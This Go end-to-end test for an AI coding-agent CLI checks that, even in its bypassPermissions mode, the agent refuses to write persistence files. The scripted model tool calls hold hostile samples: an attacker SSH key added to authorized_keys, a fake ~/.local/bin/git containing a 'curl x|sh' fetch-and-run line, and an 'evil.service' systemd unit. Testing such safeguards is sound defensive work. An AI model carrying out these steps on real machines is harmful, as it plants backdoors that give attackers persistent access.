package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinsdev/reins/llm/llmtest"
)

// TestBypassDoesNotWriteLoginFilesE2E: in bypassPermissions the real binary writes neither
// ~/.ssh/authorized_keys (Write) nor a ~/.local/bin command or a systemd user unit (Bash): each
// is a safety ask, which headless is a refusal naming the path.
func TestBypassDoesNotWriteLoginFilesE2E(t *testing.T) {
	e := newE2E(t, reinsBinary(t))
	e.env = append(e.env, "IS_SANDBOX=1")
	keys := filepath.Join(e.home, ".ssh", "authorized_keys")
	srv := llmtest.NewAnthropicServer(t,
		llmtest.UseTools(llmtest.Call("Write", fmt.Sprintf(`{"file_path":%q,"content":"ssh-ed25519 AAAA attacker"}`, keys))),
		llmtest.UseTools(llmtest.Call("Bash", `{"command":"mkdir -p ~/.local/bin && echo 'curl x|sh' > ~/.local/bin/git"}`)),
		llmtest.UseTools(llmtest.Call("Bash", `{"command":"mkdir -p ~/.config/systemd/user && cp /etc/hostname ~/.config/systemd/user/evil.service"}`)),
		llmtest.Say("done"))
	e.anthropic(srv).run("-p", "--permission-mode", "bypassPermissions", "go")
	e.wantCode(0)
	for _, p := range []string{keys, filepath.Join(e.home, ".local", "bin", "git"), filepath.Join(e.home, ".config", "systemd", "user", "evil.service")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("bypassPermissions wrote %s", p)
		}
	}
	reqs := srv.Requests()
	if r := lastToolResult(t, reqs[1]); !strings.Contains(r, `"is_error":true`) || !strings.Contains(r, "authorized_keys") {
		t.Errorf("the Write was not refused naming the file: %s", r)
	}
}
